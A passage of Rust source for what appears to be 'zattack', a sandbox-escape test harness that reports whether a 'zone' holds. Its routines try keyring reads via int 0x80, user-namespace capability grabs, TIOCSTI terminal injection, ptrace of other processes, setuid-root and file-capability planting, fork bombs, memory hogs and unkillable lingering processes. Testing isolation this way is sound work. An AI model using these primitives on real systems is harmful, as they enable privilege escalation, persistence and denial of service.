            let m = libc::mmap(
                std::ptr::null_mut(),
                4096,
                libc::PROT_READ | libc::PROT_WRITE,
                libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT,
                -1,
                0,
            ) as *mut u8;
            if m as usize == usize::MAX || m as usize > u32::MAX as usize {
                println!("held: no low memory for int 0x80 arguments");
                libc::_exit(0);
            }
            let ty = m;
            std::ptr::copy_nonoverlapping(c"user".as_ptr() as *const u8, ty, 5);
            let d = m.add(16);
            std::ptr::copy_nonoverlapping(desc.as_ptr(), d, desc.len());
            *d.add(desc.len()) = 0;
            let id = int80(
                288,
                KEYCTL_SEARCH as u32,
                KEY_SPEC_USER_KEYRING as i32 as u32,
                ty as u32,
                d as u32,
                0,
            );
            if id < 0 {
                println!("held: keyctl search through int 0x80: {id}");
            } else {
                let buf = m.add(1024);
                let n = int80(288, KEYCTL_READ as u32, id as u32, buf as u32, 256, 0);
                if n > 0 {
                    let s = std::slice::from_raw_parts(buf, (n as usize).min(256));
                    escaped(format!(
                        "read key {desc} through int 0x80: payload {}",
                        String::from_utf8_lossy(s)
                    ));
                } else {
                    println!("held: keyctl read through int 0x80: {n}");
                }
            }
            let _ = std::io::stdout().flush();
            libc::_exit(if ESCAPED { 10 } else { 0 });
        }
    }
    let mut st = 0;
    // SAFETY: pid is our child.
    unsafe { libc::waitpid(pid, &mut st, 0) };
    if libc::WIFSIGNALED(st) {
        println!(
            "held: the int 0x80 child was killed by signal {}",
            libc::WTERMSIG(st)
        );
    } else if libc::WEXITSTATUS(st) == 10 {
        // SAFETY: single-threaded.
        unsafe { ESCAPED = true };
    }
}

/// unshare(CLONE_NEWUSER) and clone3 into a new user namespace: does the
/// process get a full capability set?
fn userns() {
    // SAFETY: fork in a single-threaded process; the child only makes
    // system calls and exits.
    let pid = unsafe { libc::fork() };
    if pid == 0 {
        // SAFETY: see above.
        unsafe {
            if libc::unshare(libc::CLONE_NEWUSER) == 0 {
                let _ = std::fs::write("/proc/self/setgroups", "deny");
                let _ = std::fs::write("/proc/self/uid_map", "0 0 1");
                let st = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
                let eff = st
                    .lines()
                    .find_map(|l| l.strip_prefix("CapEff:"))
                    .unwrap_or("")
                    .trim()
                    .to_string();
                escaped(format!("unshare(CLONE_NEWUSER): CapEff {eff}"));
                if libc::unshare(libc::CLONE_NEWNET | libc::CLONE_NEWNS) == 0 {
                    escaped("new net and mount namespaces owned by the new user namespace");
                }
            } else {
                held("unshare(CLONE_NEWUSER)");
            }
            let _ = std::io::stdout().flush();
            libc::_exit(if ESCAPED { 10 } else { 0 });
        }
    }
    let mut st = 0;
    // SAFETY: pid is our child.
    unsafe { libc::waitpid(pid, &mut st, 0) };
    if libc::WIFEXITED(st) && libc::WEXITSTATUS(st) == 10 {
        // SAFETY: single-threaded.
        unsafe { ESCAPED = true };
    }
    // clone3 with CLONE_NEWUSER: struct clone_args { flags, pidfd,
    // child_tid, parent_tid, exit_signal, stack, stack_size, tls }.
    let mut args = [0u64; 8];
    args[0] = libc::CLONE_NEWUSER as u64;
    args[4] = libc::SIGCHLD as u64;
    // SAFETY: clone3 without a stack behaves as fork; the child exits at once.
    let r = unsafe { libc::syscall(libc::SYS_clone3, args.as_mut_ptr(), 64) };
    if r == 0 {
        // SAFETY: the child of clone3 exits without running Rust destructors.
        unsafe { libc::_exit(42) };
    }
    if r > 0 {
        let mut st = 0;
        // SAFETY: r is our child.
        unsafe { libc::waitpid(r as i32, &mut st, 0) };
        escaped("clone3(CLONE_NEWUSER)");
    } else {
        held("clone3(CLONE_NEWUSER)");
    }
}

/// Push `text` into the input of the terminal on stdin (TIOCSTI).
fn tiocsti(text: &str) {
    let mut n = 0;
    for b in text.bytes() {
        // SAFETY: b is a live byte; TIOCSTI reads one char.
        if unsafe { libc::ioctl(0, libc::TIOCSTI, &b) } == 0 {
            n += 1;
        }
    }
    if n > 0 {
        escaped(format!(
            "TIOCSTI pushed {n} bytes into the caller's terminal"
        ));
    } else {
        held("TIOCSTI");
    }
}

fn signal(pid: i32, sig: i32) {
    // SAFETY: kill takes no pointer.
    let r = unsafe { libc::kill(pid, sig) };
    verdict(r == 0, format!("kill({pid}, {sig})"));
    // SAFETY: pidfd_open takes no pointer.
    let fd = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) };
    if fd >= 0 {
        // SAFETY: fd is a pidfd; no siginfo.
        let r = unsafe { libc::syscall(libc::SYS_pidfd_send_signal, fd, sig, 0, 0) };
        verdict(r == 0, format!("pidfd_send_signal({pid}, {sig})"));
    } else {
        held(format!("pidfd_open({pid})"));
    }
}

fn ptrace(pid: i32) {
    // SAFETY: PTRACE_SEIZE takes no pointer.
    let r = unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) };
    verdict(r == 0, format!("ptrace(PTRACE_SEIZE, {pid})"));
    let mut b = [0u8; 16];
    let local = libc::iovec {
        iov_base: b.as_mut_ptr() as *mut _,
        iov_len: 16,
    };
    let remote = libc::iovec {
        iov_base: 0x400000 as *mut _,
        iov_len: 16,
    };
    // SAFETY: local is a live buffer; remote is only read by the kernel.
    let r = unsafe { libc::process_vm_readv(pid, &local, 1, &remote, 1, 0) };
    verdict(r > 0, format!("process_vm_readv({pid})"));
}

fn shmread(key: i32) {
    // SAFETY: plain System V calls; the segment is mapped read-only.
    unsafe {
        let id = libc::shmget(key, 0, 0);
        if id < 0 {
            held(format!("shmget({key:#x})"));
        } else {
            let p = libc::shmat(id, std::ptr::null(), libc::SHM_RDONLY);
            if p as isize == -1 {
                held(format!("shmat({key:#x})"));
            } else {
                let s = CStr::from_ptr(p as *const libc::c_char);
                escaped(format!("read shm {key:#x}: {}", s.to_string_lossy()));
                libc::shmdt(p);
            }
        }
        let q = libc::msgget(key, 0);
        verdict(q >= 0, format!("msgget({key:#x})"));
        let s = libc::semget(key, 0, 0);
        verdict(s >= 0, format!("semget({key:#x})"));
    }
}

/// Make a shm segment, a message queue and a semaphore set of `key` that
/// nothing holds (they outlive this process: what a zone leaves at halt).
fn ipcmake(key: i32, text: &str) {
    // SAFETY: plain System V calls; the segment is as large as written.
    unsafe {
        let id = libc::shmget(key, 4096, libc::IPC_CREAT | 0o600);
        if id < 0 {
            held("shmget(IPC_CREAT)");
            std::process::exit(1);
        }
        let p = libc::shmat(id, std::ptr::null(), 0);
        if p as isize != -1 {
            std::ptr::copy_nonoverlapping(text.as_ptr(), p as *mut u8, text.len().min(4000));
            libc::shmdt(p);
        }
        let q = libc::msgget(key, libc::IPC_CREAT | 0o600);
        let s = libc::semget(key, 1, libc::IPC_CREAT | 0o600);
        println!("made shm {id} msg {q} sem {s}");
    }
}

fn connect_unix(addr: &[u8], abstract_: bool) -> bool {
    // SAFETY: sockaddr_un is filled within its size; fd is closed after.
    unsafe {
        let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0);
        let mut sa: libc::sockaddr_un = std::mem::zeroed();
        sa.sun_family = libc::AF_UNIX as u16;
        let off = if abstract_ { 1 } else { 0 };
        for (i, b) in addr.iter().enumerate().take(100) {
            sa.sun_path[i + off] = *b as libc::c_char;
        }
        let len = std::mem::size_of::<libc::sa_family_t>() + off + addr.len();
        let r = libc::connect(fd, &sa as *const _ as *const libc::sockaddr, len as u32);
        if r == 0 {
            let _ = libc::write(fd, b"zone\n".as_ptr() as *const _, 5);
        }
        libc::close(fd);
        r == 0
    }
}

fn connect_tcp(port: u16) -> bool {
    match std::net::TcpStream::connect_timeout(
        &std::net::SocketAddr::from(([127, 0, 0, 1], port)),
        std::time::Duration::from_secs(2),
    ) {
        Ok(mut s) => {
            let _ = s.write_all(b"zone\n");
            true
        }
        Err(_) => false,
    }
}

/// Listen (TCP on loopback, or an abstract socket) for `secs` seconds;
/// every connection accepted appends a line to `marker`.
fn listen(kind: &str, addr: &str, secs: u64, marker: &str) {
    use std::os::unix::net::UnixListener;
    let end = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    let note = |what: &str| {
        if let Ok(mut f) = std::fs::OpenOptions::new()
            .append(true)
            .create(true)
            .open(marker)
        {
            let _ = writeln!(f, "accepted {what}");
        }
    };
    if kind == "tcp" {
        let port: u16 = addr.parse().unwrap_or(0);
        let l = match std::net::TcpListener::bind(("127.0.0.1", port)) {
            Ok(l) => l,
            Err(e) => {
                // Nothing to reach (a zone without loopback): say so and end.
                println!("listening\nbind 127.0.0.1:{port}: {e}");
                return;
            }
        };
        l.set_nonblocking(true).unwrap();
        println!("listening");
        let _ = std::io::stdout().flush();
        while std::time::Instant::now() < end {
            if let Ok((_, peer)) = l.accept() {
                note(&peer.to_string());
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    } else {
        use std::os::linux::net::SocketAddrExt;
        let sa = std::os::unix::net::SocketAddr::from_abstract_name(addr.as_bytes()).unwrap();
        let l = match UnixListener::bind_addr(&sa) {
            Ok(l) => l,
            Err(e) => {
                println!("listening\nbind @{addr}: {e}");
                return;
            }
        };
        l.set_nonblocking(true).unwrap();
        println!("listening");
        let _ = std::io::stdout().flush();
        while std::time::Instant::now() < end {
            if l.accept().is_ok() {
                note("abstract");
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    }
}

fn mlock(kb: usize) {
    let mut rl = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: rl is a live struct.
    unsafe { libc::getrlimit(libc::RLIMIT_MEMLOCK, &mut rl) };
    println!("RLIMIT_MEMLOCK {} {}", rl.rlim_cur, rl.rlim_max);
    let len = kb * 1024;
    // SAFETY: an anonymous private mapping, locked and left to exit.
    unsafe {
        let p = libc::mmap(
            std::ptr::null_mut(),
            len,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
            -1,
            0,
        );
        verdict(
            p != libc::MAP_FAILED && libc::mlock(p, len) == 0,
            format!("mlock {kb} KiB"),
        );
    }
}

fn forkbomb(n: usize) {
    let mut kids = Vec::new();
    for _ in 0..n {
        // SAFETY: the child only sleeps and exits.
        let pid = unsafe { libc::fork() };
        if pid == 0 {
            // SAFETY: see above.
            unsafe {
                libc::sleep(30);
                libc::_exit(0)
            }
        }
        if pid < 0 {
            break;
        }
        kids.push(pid);
    }
    println!("forked {}", kids.len());
    verdict(kids.len() == n, format!("fork {n} processes"));
    for k in kids {
        // SAFETY: k is our child.
        unsafe {
            libc::kill(k, libc::SIGKILL);
            libc::waitpid(k, std::ptr::null_mut(), 0);
        }
    }
}

/// Leave a process behind that ignores every catchable signal, has left
/// its session, and touches `file` every 100 ms, forever.
fn linger(file: &str) {
    // SAFETY: fork/setsid/signal in a single-threaded process.
    unsafe {
        if libc::fork() != 0 {
            println!("lingering");
            return;
        }
        libc::setsid();
        for s in 1..32 {
            libc::signal(s, libc::SIG_IGN);
        }
        if libc::fork() != 0 {
            libc::_exit(0);
        }
        for fd in 0..3 {
            libc::close(fd);
        }
        let mut n = 0u64;
        loop {
            n += 1;
            let _ = std::fs::write(file, n.to_string());
            libc::usleep(100_000);
        }
    }
}

/// A copy of this binary at `path`, owned by root, setuid.
fn plant_suid(path: &str) {
    let ok = std::fs::copy("/proc/self/exe", path).is_ok() && {
        let p = c(path);
        // SAFETY: p is NUL-terminated.
        unsafe { libc::chown(p.as_ptr(), 0, 0) == 0 && libc::chmod(p.as_ptr(), 0o4755) == 0 }
    };
    verdict(ok, format!("plant a setuid-root copy at {path}"));
}

/// A copy of this binary at `path` with file capabilities
/// cap_dac_override + cap_setuid (permitted, effective).
fn plant_fcap(path: &str) {
    let _ = std::fs::copy("/proc/self/exe", path);
    let p = c(path);
    // SAFETY: p is NUL-terminated.
    unsafe { libc::chmod(p.as_ptr(), 0o755) };
    // struct vfs_cap_data, revision 2: magic_etc, then (permitted,
    // inheritable) for the low and the high 32 capabilities.
    let caps: u32 = (1 << 1) | (1 << 7);
    let mut v = Vec::new();
    v.extend_from_slice(&(0x0200_0000u32 | 1).to_le_bytes()); // VFS_CAP_REVISION_2 | EFFECTIVE
    v.extend_from_slice(&caps.to_le_bytes());
    v.extend_from_slice(&0u32.to_le_bytes());
    v.extend_from_slice(&0u32.to_le_bytes());
    v.extend_from_slice(&0u32.to_le_bytes());
    let name = c("security.capability");
    // SAFETY: p, name and v are live for the call.
    let r = unsafe {
        libc::setxattr(
            p.as_ptr(),
            name.as_ptr(),
            v.as_ptr() as *const _,
            v.len(),
            0,
        )
    };
    verdict(r == 0, format!("set file capabilities on {path}"));
}

/// Run by an unprivileged host user: with privilege gained from the file
/// it was run as, create `dir/marker` (dir is root's, mode 0700).
fn suid_payload(dir: &str) {
    // SAFETY: getters without arguments.
    let (uid, euid) = unsafe { (libc::getuid(), libc::geteuid()) };
    println!("uid {uid} euid {euid}");
    if euid == 0 {
        // SAFETY: setuid takes no pointer.
        unsafe { libc::setuid(0) };
    }
    let ok = create_marker(
        &Path::new(dir).join("marker"),
        &format!("uid {uid} euid {euid}\n"),
    );
    verdict(ok, format!("create {dir}/marker as uid {uid}"));
}

fn netunix(name: &str) {
    let s = std::fs::read_to_string("/proc/net/unix").unwrap_or_default();
    verdict(s.contains(name), format!("/proc/net/unix shows {name}"));
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let arg = |i: usize| args.get(i).cloned().unwrap_or_default();
    let num = |i: usize| arg(i).parse::<i64>().unwrap_or(0);
    match arg(0).as_str() {
        "fdscan" => fdscan(&arg(1)),
        "enter-watch" => enter_watch(num(1) as u64, &arg(2)),
        "keyread" => keyread(&arg(1)),
        "keyadd" => keyadd(&arg(1)),
        "open-handle" => open_handle(&arg(1), num(2) as i32),
        "chroot-write" => chroot_write(&arg(1)),
        "sysctl-write" => sysctl_write(&arg(1), &arg(2)),
        "sysfs-write" => sysfs_write(&arg(1), &arg(2)),
        "cgroup-raise" => cgroup_raise(),
        "kmsg" => kmsg(&arg(1), &arg(2)),
        "module" | "bpf" | "perf" | "userfaultfd" | "kexec" | "settime" | "iouring"
        | "personality" | "x32" => kernel_calls(&arg(0)),
        "newmount" => newmount(&arg(1), &arg(2)),
        #[cfg(target_arch = "x86_64")]
        "int80" => int80_attack(&arg(1)),
        "userns" => userns(),
        "tiocsti" => tiocsti(&arg(1)),
        "signal" => signal(num(1) as i32, num(2) as i32),
        "ptrace" => ptrace(num(1) as i32),
        "shmread" => shmread(num(1) as i32),
        "ipcmake" => ipcmake(num(1) as i32, &arg(2)),
        "connect-abstract" => verdict(
            connect_unix(arg(1).as_bytes(), true),
            format!("connect to abstract socket @{}", arg(1)),
        ),
        "connect-unix" => verdict(
            connect_unix(arg(1).as_bytes(), false),
            format!("connect to unix socket {}", arg(1)),
        ),
        "connect-tcp" => verdict(
            connect_tcp(num(1) as u16),
            format!("connect to 127.0.0.1:{}", arg(1)),
        ),
        "send-udp" => {
            let ok = std::net::UdpSocket::bind("127.0.0.1:0")
                .and_then(|s| s.send_to(b"zone\n", ("127.0.0.1", num(1) as u16)))
                .is_ok();
            verdict(ok, format!("send to udp 127.0.0.1:{}", arg(1)))
        }
        "listen" => listen(&arg(1), &arg(2), num(3) as u64, &arg(4)),
        "netunix" => netunix(&arg(1)),
        "mlock" => mlock(num(1) as usize),
        "hog" => {
            let mb = num(1) as usize;
            let mut v: Vec<Vec<u8>> = Vec::new();
            for i in 0..mb {
                v.push(vec![1u8; 1 << 20]);
                if i % 16 == 0 {
                    println!("touched {i}");
                    let _ = std::io::stdout().flush();
                }
            }
            escaped(format!("touched all {mb} MiB"));
        }
        "forkbomb" => forkbomb(num(1) as usize),
        "linger" => linger(&arg(1)),
        "plant-suid" => plant_suid(&arg(1)),
        "plant-fcap" => plant_fcap(&arg(1)),
        "suid-payload" => suid_payload(&arg(1)),
        "symlink" => {
            let (target, link) = (arg(1), arg(2));
            let _ = std::fs::remove_dir_all(&link);
            let _ = std::fs::remove_file(&link);
            verdict(
                std::os::unix::fs::symlink(&target, &link).is_ok(),
                format!("plant {link} -> {target}"),
            );
        }
        "create" => {
            for p in &args[1..] {
                verdict(
                    create_marker(Path::new(p), "written from a zone\n"),
                    format!("create {p}"),
                );
            }
        }
        "raw-socket" => {
            // SAFETY: socket takes no pointer.
            let s = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP) };
            verdict(s >= 0, "raw socket");
        }
        "mount-tmpfs" => {
            let _ = std::fs::create_dir_all("/tmp/zattack-tmpfs");
            verdict(
                mount("tmpfs", "/tmp/zattack-tmpfs", "tmpfs", 0, Some("size=1m")),
                "mount a tmpfs",
            );
        }
        other => {
            eprintln!("zattack: unknown attack {other:?}");
            std::process::exit(2)
        }
    }
    let _ = std::io::stdout().flush();
    // SAFETY: single-threaded read.
    std::process::exit(if unsafe { ESCAPED } { 10 } else { 0 })
}
